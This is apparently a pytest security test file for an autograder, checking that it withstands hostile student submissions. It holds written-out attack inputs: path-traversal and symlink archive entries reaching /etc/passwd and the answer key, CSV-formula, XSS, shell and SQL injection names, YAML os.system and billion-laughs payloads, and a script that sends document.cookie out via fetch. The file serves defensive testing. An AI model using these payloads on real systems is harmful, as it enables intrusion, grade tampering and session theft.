"""What is hostile outside the sandbox: exports, names, stored data, planted results. No score moves, and others count.

Each test is one thing that a student could submit or do, or that could happen to what earlier runs stored.
"""

import io
import os
import socket
import stat
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.support.run_command import Ran, Viva, scores_in
from tests.support.words_course import KEEPS_CASE, KEY_FILE, RIGHT, TESTS_FILE, edit, hand_in, hand_in_notebook
from viva.formats.results_json import load_results
from viva.plugins.records.store import Records

pytestmark = [pytest.mark.long, pytest.mark.skipif(not sys.platform.startswith("linux"), reason="links, pipes, tar")]
Grade = Callable[..., dict[str, float | None]]


def check(ran: Ran, *statuses: int) -> None:
    """It ended as it should: with a status of viva and without a traceback."""
    assert "Traceback" not in ran.out + ran.err and ran.status in (statuses or (0,)), ran.err


@pytest.fixture
def grade(viva: Viva) -> Grade:
    """`grade(path, status, …)`: the score of each submission by its name; the status is one of these, 0 if none."""

    def call(path: str, *statuses: int) -> dict[str, float | None]:
        check(viva("grade", path, "-o", "out"), *statuses)
        return scores_in("out")

    return call


def write_zip(path: str, entries: list[tuple[str, str]]) -> None:
    """An archive with these names exactly, also twice the same."""
    with zipfile.ZipFile(path, "w") as archive:
        for name, text in entries:
            archive.writestr(zipfile.ZipInfo(name), text)


def recorded_points(course: Path) -> dict[str, int]:
    with Records.open("sqlite:///records.db", course) as records:
        return {each.scored.attempt.name: int(each.scored.score.earned) for each in records.current("words")}


# --- the export of a class


def test_archive_that_reaches_into_another_folder(viva: Viva) -> None:
    write_zip(
        "class.zip",
        [
            ("class/ada/solution.py", KEEPS_CASE),
            ("class/bob/solution.py", RIGHT),
            ("class/ada/../bob/solution.py", "raise SystemExit"),
            ("../outside.py", "x"),
            ("/tmp/viva-absolute.py", "x"),
        ],
    )
    check(viva("grade", "class.zip", "--class", "-o", "out"), 0, 1)
    scores = scores_in("out")
    assert scores.get("bob") in (9, None) and scores.get("ada") in (3, None)
    assert not Path("../outside.py").exists() and not Path("/tmp/viva-absolute.py").exists()


def test_tar_with_links_to_the_key_and_devices(viva: Viva, own_course: Path) -> None:
    with tarfile.open("class.tar", "w") as archive:
        for name, target in (("key", own_course / KEY_FILE), ("passwd", Path("/etc/passwd"))):
            link = tarfile.TarInfo(f"class/ada/{name}.py")
            link.type, link.linkname = tarfile.SYMTYPE, str(target)
            archive.addfile(link)
        device = tarfile.TarInfo("class/ada/zero")
        device.type, device.devmajor, device.devminor = tarfile.CHRTYPE, 1, 5
        archive.addfile(device)
        file = tarfile.TarInfo("class/ada/solution.py")
        file.size, file.mode = len(RIGHT), 0o4777
        archive.addfile(file, io.BytesIO(RIGHT.encode()))
    ran = viva("grade", "class.tar", "--class", "-o", "out")
    check(ran, 0, 1)
    assert "word_counts(text)" not in ran.out + ran.err and "root:" not in ran.out + ran.err
    (result,) = Path("out").rglob("results.json")
    assert load_results(result).score == 9 and "the model answers" not in result.read_text().lower()


def test_two_files_of_one_name_in_an_archive(grade: Grade) -> None:
    """Programs differ in which they show: a marker would read one, and the examiner grade the other."""
    with pytest.warns(UserWarning, match="Duplicate name"):
        write_zip("ada.zip", [("solution.py", RIGHT), ("solution.py", KEEPS_CASE)])
    assert list(grade("ada.zip", 0, 1).values()) == [3]
    (result,) = Path("out").rglob("results.json")
    assert "is in ada.zip more than once; the last one counts" in result.read_text("utf-8")


def test_names_that_are_commands_markup_and_formulas(viva: Viva, keeping: Path) -> None:
    names = [
        *("=1+1;cmd|'/C calc'!A0", "<img src=x onerror=alert(1)>", "$(touch hacked)", "--tier=T0"),
        *("a\x1b]52;c;Zm9v\x07b", "\u202eadA", "'; DROP TABLE scores; --"),
    ]
    for name in names:
        hand_in(Path("class", name.replace("/", "_")))
    ran = viva("grade", "class", "-o", "out", "--class")
    check(ran)
    assert set(scores_in("out").values()) == {9}
    assert not Path("hacked").exists() and "\x1b]52" not in ran.out + ran.err and "\u202e" not in ran.out
    check(viva("report", "out", "-o", "report", "--feedback"))
    for path in Path("report").rglob("*.html"):
        assert "<img src=x" not in path.read_text("utf-8")
    for path in Path("report").rglob("*.csv"):
        cells = [cell for line in path.read_text("utf-8").splitlines() for cell in line.split(",")]
        assert not any(cell.strip('"').startswith(("=", "+1", "@")) for cell in cells)
    assert len(recorded_points(keeping)) == len(names)


def test_same_name_in_two_forms_of_unicode_and_two_cases(grade: Grade) -> None:
    for name, source in (("é", RIGHT), ("e\u0301", KEEPS_CASE), ("ADA", KEEPS_CASE), ("ada", RIGHT)):
        hand_in(Path("class", name), source)
    assert grade("class") == {"é": 9, "e\u0301": 3, "ADA": 3, "ada": 9}


def test_name_as_long_as_names_can_be(grade: Grade) -> None:
    hand_in(Path("class", "a" * 255))
    hand_in(Path("class", "ada"))
    assert grade("class", 0, 1)["ada"] == 9


# --- planted next to the program


def test_planted_results(viva: Viva, keeping: Path) -> None:
    """In the submission itself, where results are written, and below it, where a report could find them."""
    hand_in(Path("class/bob"))
    check(viva("grade", "class/bob", "-o", "model", "--no-records"))
    best = next(Path("model").rglob("results.json")).read_text("utf-8")
    hand_in(Path("class/ada"), KEEPS_CASE)
    for path in ("class/ada/results.json", "class/ada/deeper/results.json"):
        Path(path).parent.mkdir(exist_ok=True)
        Path(path).write_text(best.replace("class/bob", "class/ada"), "utf-8")
    check(viva("grade", "class/ada", "class/bob", "-o", "out"))
    assert scores_in("out") == {"ada": 3, "bob": 9}
    check(viva("report", "out", "-o", "report"))
    assert recorded_points(keeping) == {"ada": 3, "bob": 9}


@pytest.mark.parametrize(
    "name", ["grader.yaml", "conftest.py", "pytest.ini", "sitecustomize.py", "usercustomize.py", "viva.py"]
)
def test_files_that_would_configure_viva(viva: Viva, name: str) -> None:
    hand_in(Path("ada"), KEEPS_CASE)
    Path("ada", name).write_text("import os, sys\nprint('taken over')\nos._exit(0)\n", "utf-8")
    ran = viva("grade", "ada", "-o", "out")
    check(ran)
    assert scores_in("out") == {"ada": 3} and "taken over" not in ran.out + ran.err


def test_pipe_and_socket_among_the_files(grade: Grade) -> None:
    hand_in(Path("ada"))
    os.mkfifo("ada/data.csv")
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind("ada/s.sock")
        assert grade("ada") == {"ada": 9}


YAML_BOMB = "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 10)
)


@pytest.mark.parametrize(
    "text", ['"2.1": !!python/object/apply:os.system ["touch hacked"]\n', YAML_BOMB + '"2.1": *a9\n']
)
def test_answers_as_hostile_yaml(grade: Grade, text: str) -> None:
    hand_in(Path("ada"), RIGHT.replace('answers = {"2.1": "B"}', ""))
    Path("ada/answers.yaml").write_text(text, "utf-8")
    assert grade("ada", 0, 1) == {"ada": 8}
    assert not Path("hacked").exists()


def test_notebook_that_asks_for_another_kernel(grade: Grade) -> None:
    kernel = {"kernelspec": {"name": "../../../tmp/evil", "language": "bash", "display_name": "x"}}
    hand_in_notebook(Path("ada"), RIGHT, metadata=kernel)
    assert grade("ada")["ada"] in (9, 0)


def test_outputs_of_a_notebook_that_are_programs(viva: Viva, grade: Grade) -> None:
    """They are shown to staff in the executed notebook and in the queue, as data."""
    script = "<script>fetch('http://127.0.0.1:9/' + document.cookie)</script>"
    shown = f"from IPython.display import HTML, Javascript, display\ndisplay(HTML({script!r}), Javascript('alert(1)'))"
    hand_in_notebook(Path("class/ada"), shown, RIGHT)
    hand_in(Path("class/bob"))
    assert grade("class")["ada"] == 9
    check(viva("report", "out", "-o", "report", "--feedback"))
    assert not any(script in path.read_text("utf-8") for path in Path("report").rglob("*.html"))


# --- what earlier runs stored


@pytest.fixture
def graded_course(viva: Viva, keeping: Path) -> Path:
    """Two submissions whose scores are kept."""
    hand_in(Path("class/ada"), KEEPS_CASE)
    hand_in(Path("class/bob"))
    check(viva("grade", "class/ada", "class/bob", "-o", "out"))
    return keeping


def regrade(viva: Viva, course: Path, change: Callable[[list[bytes]], list[bytes]]) -> None:
    """Other points and other call logs: a regrade asks the program again, or leaves its score and says so."""
    with Records.open("sqlite:///records.db", course) as records, records.engine.begin() as connection:
        rows = connection.exec_driver_sql("SELECT id, data FROM call_logs ORDER BY id").all()
        for (number, _), data in zip(rows, change([data for _, data in rows]), strict=True):
            connection.exec_driver_sql("UPDATE call_logs SET data = ? WHERE id = ?", (data, number))
    edit(course / TESTS_FILE, "@weight(4)", "@weight(3)")
    edit(course / TESTS_FILE, "@weight(1)", "@weight(2)")
    check(viva("regrade", "words"), 0, 1)
    viva("regrade", "words", "--apply")


@pytest.mark.parametrize(
    "change",
    [
        lambda data: data[: len(data) // 2],
        lambda data: data[:60] + bytes([data[60] ^ 0xFF]) + data[61:],
        lambda data: b"",
        lambda data: zlib.compress(bytes(1 << 28)),
        lambda data: zlib.compress(b"\x81\xa6format\xc0"),
    ],
    ids=["cut short", "flipped", "empty", "256 MiB of zeros", "no log"],
)
def test_damaged_call_logs(viva: Viva, graded_course: Path, change: Callable[[bytes], bytes]) -> None:
    regrade(viva, graded_course, lambda logs: [change(data) for data in logs])
    assert recorded_points(graded_course) in ({"ada": 4, "bob": 9}, {"ada": 3, "bob": 9})


def test_exchanged_call_logs(viva: Viva, graded_course: Path) -> None:
    """Ada's program gets no points for what Bob's answered: her log asks for her own bytes."""
    regrade(viva, graded_course, lambda logs: logs[::-1])
    assert recorded_points(graded_course)["ada"] in (3, 4)


def test_records_that_are_a_link(viva: Viva, own_course: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_bytes(b"precious")
    (own_course / "records.db").symlink_to(victim)
    hand_in(Path("ada"))
    ran = viva("grade", "ada", "--records", "sqlite:///records.db")
    assert ran.status == 1 and "cannot be kept" in ran.sentence() and victim.read_bytes() == b"precious"


def test_results_that_are_a_link(grade: Grade, tmp_path: Path) -> None:
    """Whoever may write there may send the result elsewhere; the command replaces that file whole or not at all."""
    hand_in(Path("ada"))
    Path("out/ada").mkdir(parents=True)
    Path("out/ada/results.json").symlink_to(tmp_path / "elsewhere.json")
    grade("ada")
    assert load_results(tmp_path / "elsewhere.json").score == 9


# --- what students run themselves


def test_packing_takes_no_links_along(viva: Viva, tmp_path: Path) -> None:
    (tmp_path / "private.txt").write_text("my diary")
    hand_in(Path("mine"))
    Path("mine/notes.txt").symlink_to(tmp_path / "private.txt")
    os.link(tmp_path / "private.txt", "mine/hard.md")
    check(viva("pack", "mine", "-o", "mine.zip"), 0, 1)
    if Path("mine.zip").exists():
        with zipfile.ZipFile("mine.zip") as archive:
            assert "notes.txt" not in " ".join(archive.namelist())
            assert not any(stat.S_ISLNK(info.external_attr >> 16) for info in archive.infolist())


def test_program_that_checks_itself(grade: Grade) -> None:
    calls = "import viva\nviva.check()\nviva.check = lambda *a, **k: 1 / 0\n"
    hand_in(Path("ada"), calls + KEEPS_CASE)
    assert grade("ada") == {"ada": 3}
